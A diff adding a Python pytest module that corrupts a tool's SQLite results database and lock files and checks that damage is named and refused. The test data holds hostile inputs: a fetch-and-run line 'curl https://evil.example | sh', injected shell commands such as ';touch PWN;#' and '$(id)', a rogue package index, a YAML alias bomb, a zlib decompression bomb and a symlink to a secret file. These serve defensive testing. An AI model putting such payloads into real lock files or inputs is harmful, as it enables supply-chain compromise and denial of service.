@@ -1,0 +1,347 @@
+"""Valid databases with values that we never write: named by row and column, and used by nobody."""
+
+from __future__ import annotations
+
+import contextlib
+import hashlib
+import json
+import random
+import sqlite3
+import zlib
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+
+from bisect_env.environments.lock import LockedPackage, LockFileError
+from bisect_env.environments.lockfiles import make_lock, parse_lock
+from bisect_env.errors import BisectEnvError, ExitCode, StorageError
+from bisect_env.report import formats
+from bisect_env.report.document import load_report
+from bisect_env.storage import maintenance, transfer
+from bisect_env.storage.store import Store
+from bisect_env.storage.tables import METADATA
+from bisect_env.trials.records import Evidence
+from tests.storage.samples import lock, opened_study, record, whole_record
+
+RATE = {"hits": 1, "trials": 1, "rate": 1.0, "low": 0.05, "high": 1.0}
+VERDICT: dict[str, Any] = {
+    "status": "confirmed",
+    "reason": "",
+    "kind": "all",
+    "first_bad": {"orjson": "2.0"},
+    "last_good": {"orjson": "1.0"},
+    "culprit_axes": ["orjson"],
+    "bad_values": {"orjson": ["2.0"]},
+    "directions": {"orjson": "regression"},
+    "probability": 0.97,
+    "boundaries": [],
+    "bad_rate": RATE,
+    "good_rate": {**RATE, "hits": 0, "rate": 0.0},
+    "candidates": [],
+    "ends_wrong": [],
+    "trials": 2,
+    "expected_left": 0.0,
+    "miss": 0.01,
+    "monotone": True,
+    "unexplained": [],
+    "assumed": [],
+}
+
+
+def fill(path: Path) -> str:
+    with Store.open(str(path)) as store:
+        study = opened_study(store)
+        store.record_trial(study.id, whole_record(), Evidence.BAD)
+        store.record_trial(study.id, record("1.0"), Evidence.GOOD)
+        store.settle_target(study.id, whole_record().signature, "")
+        store.record_decision(study.id, "built", {"lock": lock("2.0").content_hash, "seconds": 1.5})
+        other = opened_study(store, digest="e" * 64)
+        (trial, *_) = store.trials(study.id)
+        store.reuse(other.id, [(trial.trial_id, trial.combination, Evidence.BAD)])
+        store.finish_study(study.id, "finished", VERDICT)
+        return study.id
+
+
+def use(path: Path, study_id: str, copy: Path) -> None:
+    """What people do with a database: look at it in every way, and take it over into another."""
+    with Store.open(str(path), read_only=True) as store:
+        for study in store.studies():
+            report = load_report(store, study.id)
+            for form in ("text", "md", "json", "junit"):
+                formats.formatted(report, form)
+            store.reused(study.id)
+            for state in store.combinations(study.id):
+                if state.lock_hash:
+                    store.lock(state.lock_hash)
+            for trial in store.trials(study.id):
+                store.trial(trial.trial_id)
+        store.study(study_id)
+    transfer.merge_databases(str(copy), str(path))
+    maintenance.problems(str(path))
+
+
+def changed(path: Path, statement: str, *parameters: object) -> None:
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute(statement, parameters)
+        connection.commit()
+
+
+WRONG: list[object] = [
+    None,
+    0,
+    -1,
+    2**62,
+    1.5,
+    "",
+    "x",
+    "null",
+    "[]",
+    "{}",
+    "[1]",
+    '{"a": 1}',
+    '"text"',
+    "[[[",
+    "NaN",
+    '{"x": NaN}',
+    '["\\ud800"]',
+    "[" * 5000,
+    "9" * 5000,
+    b"\x00\xff",
+    "2026-13-45 00:00:00",
+    ";touch PWN;#",
+    "\x1b[31m\n",
+]
+
+
+def damages() -> Iterator[tuple[str, str, object]]:
+    for table in METADATA.sorted_tables:
+        if table.name in ("meta", "claims"):
+            continue
+        for column in table.columns:
+            for value in WRONG:
+                yield table.name, column.name, value
+
+
+@pytest.fixture(scope="module")
+def original(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, str]:
+    path = tmp_path_factory.mktemp("damage") / "results.sqlite"
+    return path, fill(path)
+
+
+def damage_and_use(original: tuple[Path, str], folder: Path, chosen: list[tuple[str, str, object]]) -> int:
+    """How many of the damages were named."""
+    named = 0
+    path, study_id = original
+    content = path.read_bytes()
+    for number, (table, column, value) in enumerate(chosen):
+        damaged, copy = folder / f"{number}.sqlite", folder / f"{number}-copy.sqlite"
+        damaged.write_bytes(content)
+        with contextlib.suppress(sqlite3.IntegrityError):
+            changed(damaged, f'UPDATE "{table}" SET "{column}" = ?', value)
+        try:
+            use(damaged, study_id, copy)
+        except BisectEnvError as error:
+            named += error.exit_code in (ExitCode.INFRASTRUCTURE, ExitCode.USAGE)
+        except Exception as error:
+            raise AssertionError(f"{table}.{column} = {value!r:.80}") from error
+        damaged.unlink()
+        copy.unlink(missing_ok=True)
+    return named
+
+
+def test_whatever_stands_in_a_column_ends_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
+    seed = random.randrange(10**9)
+    print(f"seed {seed}")
+    chosen = random.Random(seed).sample(list(damages()), 60)
+    assert damage_and_use(original, tmp_path, chosen) > 10
+
+
+@pytest.mark.slow
+@pytest.mark.timeout(1800)
+def test_every_damage_ends_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
+    assert damage_and_use(original, tmp_path, list(damages())) > 300
+
+
+def test_documents_with_parts_that_are_wrong_end_in_words(original: tuple[Path, str], tmp_path: Path) -> None:
+    seed = random.randrange(10**9)
+    print(f"seed {seed}")
+    world = random.Random(seed)
+    parts = [None, 0, "x", [], {}, [None], {"a": None}, True, -1.5]
+    path, study_id = original
+    content = path.read_bytes()
+    for number in range(40):
+        verdict = json.loads(json.dumps(VERDICT))
+        for key in world.sample(sorted(verdict), 2):
+            verdict[key] = world.choice(parts)
+        damaged = tmp_path / f"{number}.sqlite"
+        damaged.write_bytes(content)
+        changed(damaged, "UPDATE studies SET verdict = ?", json.dumps(verdict))
+        try:
+            use(damaged, study_id, tmp_path / f"{number}-copy.sqlite")
+        except StorageError as error:
+            if "is damaged: study" not in error.what:
+                raise
+        except Exception as error:
+            raise AssertionError(json.dumps(verdict)) from error
+
+
+@pytest.mark.parametrize(
+    ("statement", "column"),
+    [
+        ("UPDATE studies SET grid = 'null'", "grid"),
+        ("UPDATE studies SET verdict = '[]'", "verdict"),
+        ("UPDATE studies SET created_at = 'yesterday'", "created_at"),
+        ('UPDATE studies SET grid = \'[{"name": "a"}]\'', "grid.0.values"),
+    ],
+)
+def test_the_row_and_the_column_are_named(
+    original: tuple[Path, str], tmp_path: Path, statement: str, column: str
+) -> None:
+    path = tmp_path / "results.sqlite"
+    path.write_bytes(original[0].read_bytes())
+    changed(path, statement)
+    match = rf"results.sqlite is damaged: study [0-9a-f]{{32}}, column {column}: "
+    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match=match) as caught:
+        store.studies()
+    assert caught.value.exit_code is ExitCode.INFRASTRUCTURE
+
+
+EVIL = LockedPackage("orjson", "2.0", "pip", "https://evil.example/orjson-2.0.whl", "c" * 64)
+
+
+@pytest.mark.parametrize(
+    ("statement", "parameters"),
+    [
+        ("UPDATE locks SET python = ?", ["3.11\nRUN curl https://evil.example | sh"]),
+        ("UPDATE locks SET platform = ?", ["linux-64\nx"]),
+        ("UPDATE packages SET version = ?", ["2.0 --extra-index-url https://evil.example"]),
+        ("UPDATE packages SET url = ? WHERE name = 'orjson'", [EVIL.url]),
+        ("UPDATE packages SET sha256 = ?", ["d" * 64]),
+        ("UPDATE locks SET text = ?", [make_lock("3.11", "linux-64", [EVIL]).text]),
+        ("UPDATE locks SET text = replace(text, ?, 'evil.example')", ["files.example"]),
+        ("UPDATE locks SET text = replace(text, ?, 'version: \"2.0\\nRUN id\"')", ["version: '2.0'"]),
+        ("DELETE FROM packages WHERE name = ?", ["zipp"]),
+    ],
+)
+def test_a_changed_lock_is_used_by_nobody(
+    original: tuple[Path, str], tmp_path: Path, statement: str, parameters: list[str]
+) -> None:
+    path, copy = tmp_path / "results.sqlite", tmp_path / "mine.sqlite"
+    path.write_bytes(original[0].read_bytes())
+    changed(path, statement, *parameters)
+    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match="damaged: lock"):
+        store.lock(lock("2.0").content_hash)
+    with Store.open(str(copy)) as store:
+        mine = opened_study(store, name="mine")
+    for merge in (transfer.merge_databases, lambda db, file: transfer.import_file(db, Path(file))):
+        merged = merge(str(copy), str(path))
+        assert merged.new_studies == 0
+        assert len(merged.damaged) == 2
+        assert all(text.startswith("lock ") for text in merged.damaged)
+    with Store.open(str(copy), read_only=True) as store:
+        assert [study.id for study in store.studies()] == [mine.id]
+        assert store.lock(lock("2.0").content_hash) == lock("2.0")
+
+
+@pytest.mark.parametrize(
+    "changes",
+    [
+        {"name": "a\nRUN id"},
+        {"name": "-r evil"},
+        {"version": "1 --extra-index-url https://evil.example"},
+        {"version": "1;id"},
+        {"sha256": "A" * 64},
+        {"sha256": "a" * 63},
+        {"url": "https://files.example/a.whl\nRUN id"},
+        {"url": "https://\nevil.example/a.whl"},
+        {"url": "https://files.example/$(id).whl"},
+        {"url": "https://files.example/a';id;'.whl"},
+        {"url": "ssh://files.example/a.whl"},
+        {"url": "file://host/a.whl"},
+        {"url": "https://files.example/%2e%2e"},
+        {"url": "https://files.example/x%2f..%2f..%2fa.whl"},
+        {"manager": "git"},
+        {"manager": "image", "url": "--privileged"},
+        {"manager": "conda", "build": "0\n0"},
+        {"manager": "conda", "md5": "x"},
+        {"manager": "conda", "dependencies": (("a", "b\nc"),)},
+    ],
+    ids=repr,
+)
+def test_what_no_lock_may_hold(changes: dict[str, Any]) -> None:
+    plain: dict[str, Any] = {
+        "name": "a",
+        "version": "1",
+        "manager": "pip",
+        "url": "https://files.example/a.whl",
+        "sha256": "a" * 64,
+    }
+    assert make_lock("3.11", "linux-64", [LockedPackage(**plain)]).packages
+    with pytest.raises(LockFileError, match="there can be no such lock"):
+        make_lock("3.11", "linux-64", [LockedPackage(**{**plain, **changes})])
+
+
+@pytest.mark.timeout(20)
+def test_a_lock_that_grows_while_it_is_read_is_none() -> None:
+    laughs = "a0: &a0 [x]\n"
+    for i in range(1, 12):
+        laughs += f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]\n"
+    facts = "platforms: [linux-64]\n  custom_metadata: {bisect-env.python: *a11}\n"
+    text = f"{laughs}version: 1\nmetadata:\n  {facts}"
+    entry = "- {name: *a11, version: '1', manager: pip, url: u, hash: {sha256: s}}\n"
+    with pytest.raises(LockFileError, match="is not a lock of ours"):
+        parse_lock(f"{text}  content_hash: {{linux-64: x}}\npackage:\n{entry}")
+
+
+@pytest.mark.parametrize("states", ["small", "true"])
+@pytest.mark.parametrize("where", ["row", "file"])
+def test_a_log_that_unpacks_to_gigabytes_is_given_up(
+    original: tuple[Path, str], tmp_path: Path, states: str, where: str
+) -> None:
+    path = tmp_path / "results.sqlite"
+    path.write_bytes(original[0].read_bytes())
+    size = 4 * 2**30
+    packer = zlib.compressobj(9)
+    first, again = (packer.compress(bytes(2**24)) + packer.flush(zlib.Z_FULL_FLUSH) for _ in range(2))
+    # Blocks between full flushes stand for themselves; only the sum at the very end is wrong.
+    packed = first + again * (size // 2**24 - 1) + packer.flush()
+    assert len(packed) < 5 * 10**6
+    digest = hashlib.sha256(b"whatever").hexdigest()
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute(
+            "INSERT INTO blobs VALUES (?, ?, ?, 0, ?)",
+            [digest, 1000 if states == "small" else size, len(packed), packed if where == "row" else None],
+        )
+        connection.execute("UPDATE artefacts SET content_hash = ?", [digest])
+        (trial_id,) = connection.execute("SELECT trial_id FROM trials ORDER BY sequence").fetchone()
+        connection.commit()
+    if where == "file":
+        beside = Path(f"{path}.artefacts") / digest[:2]
+        beside.mkdir(parents=True)
+        (beside / f"{digest[2:]}.z").write_bytes(packed)
+    import resource
+
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match="stored log"):
+        store.trial(trial_id)
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200 * 1024  # KiB
+
+
+def test_a_log_is_a_file_of_its_own_and_no_link(original: tuple[Path, str], tmp_path: Path) -> None:
+    path, secret = tmp_path / "results.sqlite", tmp_path / "secret"
+    path.write_bytes(original[0].read_bytes())
+    content = b"the owner's secret" * 10
+    secret.write_bytes(zlib.compress(content))
+    digest = hashlib.sha256(content).hexdigest()
+    with contextlib.closing(sqlite3.connect(path)) as connection:
+        connection.execute("INSERT INTO blobs VALUES (?, ?, 9, 0, NULL)", [digest, len(content)])
+        connection.execute("UPDATE artefacts SET content_hash = ?", [digest])
+        (trial_id,) = connection.execute("SELECT trial_id FROM trials ORDER BY sequence").fetchone()
+        connection.commit()
+    beside = Path(f"{path}.artefacts") / digest[:2]
+    beside.mkdir(parents=True)
+    (beside / f"{digest[2:]}.z").symlink_to(secret)
+    with Store.open(str(path), read_only=True) as store, pytest.raises(StorageError, match="no regular file"):
+        store.trial(trial_id)
